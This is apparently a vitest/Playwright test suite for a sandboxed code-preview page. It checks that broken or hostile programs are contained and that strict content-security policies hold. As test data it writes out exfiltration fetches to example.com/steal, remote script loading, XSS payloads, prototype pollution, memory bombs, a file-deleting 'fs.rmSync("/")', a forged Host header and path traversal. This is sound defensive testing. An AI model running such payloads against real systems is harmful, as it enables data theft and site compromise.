// What a program can do to the page and to the world: nothing. And the page outlives whatever a program does.
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { Preview, fragmentOf } from "./preview.js";

let preview: Preview;
beforeAll(async () => {
  preview = await Preview.start();
});
afterAll(() => preview.stop());

const good = `import { Entity } from "electroxide";
const Note = new Entity({
  model: { entity: "note", version: "1", service: "app" },
  attributes: { id: { type: "string", required: true } },
  indexes: { primary: { pk: { field: "pk", composite: ["id"] }, sk: { field: "sk", composite: [] } } },
}, { table: "notes" });
Note.get({ id: "n1" }).params();
`;

describe("a program that goes wrong", () => {
  test("an endless loop is stopped and the page lives", async () => {
    await preview.visit(async (visit) => {
      await visit.type("while (true) {}");
      expect(await visit.text("#problems")).toContain("ran for more than 2 seconds");
      await visit.type(good);
      expect(await visit.text("#problems")).toBe("");
      expect(await visit.requests()).toEqual([
        { Key: { pk: "$app#id_n1", sk: "$note_1" }, TableName: "notes" },
      ]);
    });
  });

  test("an endless wait is answered with the calls that came before it", async () => {
    await preview.visit(async (visit) => {
      await visit.type(`${good}await new Promise(() => {});`);
      expect(await visit.text("#problems")).toContain("waits for something that does not come");
      expect(await visit.requests()).toHaveLength(1);
    });
  });

  test.each([
    ["a refusal", `${good}Note.get({ nid: "n1" }).params();`, 8, "2002"],
    ["an exception", "const a = 1;\n\nnull.b;", 3, "TypeError"],
    ["a mistake in the syntax", "const a = 1;\nconst b = ;", 2, "SyntaxError"],
    ["a mistake that only the engine sees", "const a = 1;\n\nlet a = 2;", 3, "SyntaxError"],
    ["a wrong model", good.replace('["id"]', '["uid"]'), 2, "1003"],
    [
      "an import of something else",
      'const a = 1;\nimport fs from "node:fs";\nfs.rmSync("/");',
      2,
      "cannot be imported",
    ],
    ["an unhandled rejection", "const a = 1;\nPromise.reject(new RangeError('late'));", 2, "late"],
  ])("%s is shown at its line", async (_, source, line, text) => {
    await preview.visit(async (visit) => {
      await visit.type(source);
      const problem = visit.page.locator(".problem").last();
      expect(await problem.innerText()).toContain(text);
      expect(await problem.innerText()).toContain(`line ${line}`);
      await problem.getByRole("button").click();
      const active = visit.page.locator(".cm-lineNumbers .cm-activeLineGutter");
      expect((await active.innerText()).trim()).toBe(String(line));
      expect(
        await visit.page.locator(".cm-lintRange-error, .cm-lint-marker-error").count(),
      ).toBeGreaterThan(0);
      expect(visit.complaints).toEqual([]);
    });
  });

  test("while it is no program, what it last showed stays, marked as of before", async () => {
    await preview.visit(async (visit) => {
      await visit.type(good);
      await visit.type(`${good}Note.get({`);
      expect(await visit.text("#problems")).toContain("SyntaxError");
      expect(await visit.requests()).toHaveLength(1);
      expect(await visit.page.locator("#results").getAttribute("class")).toContain("stale");
      await visit.type(good);
      expect(await visit.page.locator("#results").getAttribute("class")).not.toContain("stale");
    });
  });
});

/** Each line is tried by itself and its outcome printed. */
const attempts = `
const tries = {
  fetch: () => fetch("https://example.com/steal"),
  ownOrigin: () => fetch(ORIGIN),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket("wss://example.com/");
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error("no socket"));
  }),
  source: () => new Promise((resolve, reject) => {
    const source = new EventSource("https://example.com/");
    source.onopen = resolve;
    source.onerror = () => reject(new Error("no source"));
  }),
  request: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", "https://example.com/");
    request.onload = resolve;
    request.onerror = () => reject(new Error("no request"));
    request.send();
  }),
  script: () => importScripts("https://example.com/evil.js"),
  module: () => (0, eval)('import("https://example.com/evil.js")'),
  nested: () => new Promise((resolve, reject) => {
    const code = 'fetch("https://example.com/nested").then(() => postMessage(1), () => postMessage(0))';
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = ({ data }) => (data ? resolve() : reject(new Error("no fetch")));
    worker.onerror = () => reject(new Error("no worker"));
  }),
  parent: () => parent.document,
  top: () => top.location,
  page: () => document.body,
  storage: () => localStorage.setItem("a", "b"),
  cookie: () => document.cookie,
  database: () => new Promise((resolve, reject) => {
    const open = indexedDB.open("a");
    open.onsuccess = resolve;
    open.onerror = () => reject(new Error("no database"));
  }),
  caches: () => caches.open("a"),
  files: () => navigator.storage.getDirectory(),
};
const done = [];
for (const [name, attempt] of Object.entries(tries)) {
  try {
    await Promise.race([attempt(), new Promise((_, reject) => setTimeout(() => reject(new Error("late")), 150))]);
    done.push(name);
  } catch {}
}
console.log("reached:", done.join(" ") || "nothing");
`;

describe("a hostile program", () => {
  test("reaches no network, no storage and no page", async () => {
    await preview.visit(async (visit) => {
      await visit.type(attempts.replace("ORIGIN", JSON.stringify(visit.url)));
      expect(await visit.text("#problems")).toContain("reached: nothing");
      expect(visit.outside).toEqual([]);
    });
  });

  const hostile = [
    `<script>parent.pwned = 1</script><img src=x onerror="parent.pwned = 1">`,
    `console.log('<img src=x onerror="window.pwned = 1">'); throw new Error('<script>window.pwned=1</script>');`,
    good.replaceAll("note", `<img src=x onerror='window.pwned=1'>`),
    `Object.prototype.polluted = "yes"; Array.prototype.map = () => ["polluted"]; self.postMessage({ report: 1 });`,
    `self.postMessage(JSON.stringify({ entities: [], calls: "x", problems: [], prints: [] }));`,
    `self.postMessage('{"__proto__": {"polluted": "yes"}, "entities": [], "calls": [], "problems": [], "prints": [{"line": 1, "text": "forged", "__proto__": {"polluted": 1}}]}');`,
    `self.postMessage("x".repeat(20_000_000));`,
    `const a = []; for (;;) a.push(new ArrayBuffer(1 << 28));`,
    `for (;;) self.postMessage("{}");`,
    `self.close();`,
    `process.exit(); globalThis.constructor.constructor("return this")().pwned = 1;`,
    `const deep = []; let at = deep; for (let i = 0; i < 1e6; i++) at = at[0] = []; console.log(deep); ${good.replace('"n1"', "deep")}`,
  ];

  test.each(hostile.map((source, number) => [number, source] as const))(
    "link %i of a stranger does nothing",
    async (_, source) => {
      await preview.visit(
        async (visit) => {
          const state = await visit.page.evaluate(() => ({
            pwned: "pwned" in window,
            polluted: "polluted" in {},
            images: document.querySelectorAll("img").length,
            scripts: document.querySelectorAll("script").length,
            map: [1].map((value) => value + 1),
          }));
          expect(state).toEqual({ pwned: false, polluted: false, images: 0, scripts: 2, map: [2] });
          expect(visit.outside).toEqual([]);
          await visit.type(good);
          expect(await visit.requests()).toHaveLength(1);
        },
        { fragment: fragmentOf(source) },
      );
    },
  );

  test.each(["#p=", "#p=%3Cscript%3E", "#p=AAAA", "#<img src=x onerror=alert(1)>", "#__proto__=1"])(
    "the fragment %s is no program, and the first example stands",
    async (fragment) => {
      await preview.visit(
        async (visit) => {
          expect(await visit.text("#calls")).toContain("user.create");
          expect(visit.outside).toEqual([]);
        },
        { fragment },
      );
    },
  );

  test("a fragment that unpacks to far too much is refused", async () => {
    const fragment = fragmentOf(" ".repeat(50_000_000));
    await preview.visit(
      async (visit) => expect(await visit.text("#calls")).toContain("user.create"),
      { fragment },
    );
  });
});

describe("the policies", () => {
  const policies = async (url: string, path: string): Promise<[string, string]> => {
    const response = await fetch(url + path);
    const meta = /Security-Policy" content="([^"]*)"/.exec(await response.text())?.[1] ?? "";
    return [response.headers.get("Content-Security-Policy") ?? "", meta];
  };

  test("the page may connect to nothing and evaluates nothing; the frame has its own file, origin and policy", async () => {
    await preview.visit(async ({ url, page }) => {
      for (const policy of await policies(url, "")) {
        expect(policy).toContain("default-src 'none'");
        expect(policy).toContain("connect-src 'none'");
        expect(policy).not.toContain("unsafe");
      }
      for (const policy of await policies(url, "sandbox.html")) {
        expect(policy).toMatch(
          /^default-src 'none'; script-src 'sha256-\S+' 'unsafe-eval' 'wasm-unsafe-eval'; worker-src blob:;/,
        );
      }
      expect(await page.locator("#sandbox").getAttribute("sandbox")).toBe("allow-scripts");
      const origins = await Promise.all(
        page.frames().map((frame) => frame.evaluate(() => self.origin)),
      );
      expect(origins).toEqual([new URL(url).origin, "null"]);
    });
  });

  test("the page itself cannot evaluate or connect, even if somebody got in", async () => {
    await preview.visit(async ({ page, url }) => {
      const reached = await page.evaluate(async (own) => {
        const add = (code: string) => {
          const script = document.createElement("script");
          try {
            script.textContent = code;
            document.body.append(script);
          } catch {
            return;
          }
        };
        add("window.inline = 1");
        const fetched = await fetch(own).then(
          () => true,
          () => false,
        );
        return { inline: "inline" in window, fetched };
      }, url);
      expect(reached).toEqual({ inline: false, fetched: false });
    });
  });

  test("the server answers this machine only, and only what belongs to the page", async () => {
    await preview.visit(async ({ url }) => {
      const { request } = await import("node:http");
      const status = (path: string, headers: Record<string, string>, method = "GET") =>
        new Promise<number>((resolve, reject) => {
          request(new URL(path, url), { headers, method }, (response) => {
            response.resume();
            resolve(response.statusCode ?? 0);
          })
            .on("error", reject)
            .end();
        });
      expect(await status("/", {})).toBe(200);
      expect(await status("/", { host: "evil.example:80" })).toBe(403);
      expect(await status("/../package.json", {})).toBe(404);
      expect(await status("/package.json", {})).toBe(404);
      expect(await status("/", {}, "POST")).toBe(405);
    });
  });
});
